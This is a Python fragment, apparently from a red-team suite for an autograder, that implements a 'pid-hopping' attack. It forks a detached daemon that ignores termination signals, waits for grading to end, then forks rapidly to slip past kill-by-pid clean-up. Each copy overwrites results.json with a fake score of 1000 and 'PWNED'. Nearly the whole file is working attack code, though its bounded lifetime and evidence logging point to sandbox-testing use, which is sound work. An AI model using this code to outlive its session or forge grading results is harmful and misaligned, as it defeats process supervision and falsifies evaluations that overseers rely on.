# ---------------------------------------------------------------- attack: daemon_pid_hopping
# At import: a setsid() daemon that waits for the worker (or the runner) to end, i.e. for the end of grading when
# the supervisor kills the account's processes, then re-executes itself as a small interpreter and changes
# its process id as fast as it can (fork, the parent exits), so that a clean-up that lists the account's
# processes and then kills those ids keeps missing it; every incarnation tries to rewrite results.json.
# Hopping stops after HOP_S seconds and the daemon after LIFETIME_S, whatever happens.
def _attack_daemon_pid_hopping(hop_s=20.0, lifetime_s=180.0):
    import signal

    worker, runner = _aos.getpid(), _aos.getppid()
    child = _aos.fork()
    if child:
        _aos.waitpid(child, 0)
        _attack_record("daemon_pid_hopping", event="started", worker=worker, runner=runner)
        return
    try:
        _aos.setsid()
        if _aos.fork():
            _aos._exit(0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        fake = _ajson.dumps({"score": 1000.0, "tests": [], "output": "PWNED by a pid-hopping daemon"})
        targets = [_aos.path.join(d, "results.json") for d in _attack_paths("results")]
        start = _attack_now()
        while _attack_now() - start < lifetime_s and _attack_alive(worker) and _attack_alive(runner):
            _atime.sleep(0.005)
        _attack_record("daemon_pid_hopping", echo=False, event="hopping", after_s=round(_attack_now() - start, 2))
        # A small interpreter forks in well under a millisecond (a worker with torch loaded needs ~20 ms).
        _aos.execv(_asys.executable, [_asys.executable, "-S", "-c", _ATTACK_HOPPER, repr(hop_s), _ajson.dumps(targets), fake,
                                     _aos.path.join(_ATTACK_CONFIG["evidence"], "daemon_pid_hopping.jsonl")])
    finally:
        _aos._exit(0)


_ATTACK_HOPPER = """
import json, os, sys, time
hop_s, targets, fake, log = float(sys.argv[1]), json.loads(sys.argv[2]), sys.argv[3], sys.argv[4]
start = last = time.time()
hops = failures = 0
wins = set()
def beat(event):
    with open(log, "a") as stream:
        stream.write(json.dumps({"attack": "daemon_pid_hopping", "pid": os.getpid(), "uid": os.getuid(), "time": time.time(),
                                 "event": event, "hops": hops, "fork_failures": failures, "wins": sorted(wins)}) + "\\n")
while time.time() - start < hop_s:
    try:
        if os.fork():
            os._exit(0)  # the parent vanishes; the child carries on under a new pid
        hops += 1
    except OSError:
        failures += 1
        time.sleep(0.001)
    if hops % 16 == 0:
        for target in targets:
            try:
                with open(target, "w") as stream:
                    stream.write(fake)
                wins.add(target)
            except OSError:
                pass
    if time.time() - last >= 0.25:
        last = time.time()
        beat("heartbeat")
beat("hopping over")
"""


if _attack_is_student():
    _attack_daemon_pid_hopping()
else:
    _attack_record("daemon_pid_hopping", skipped="not running as the grading account")
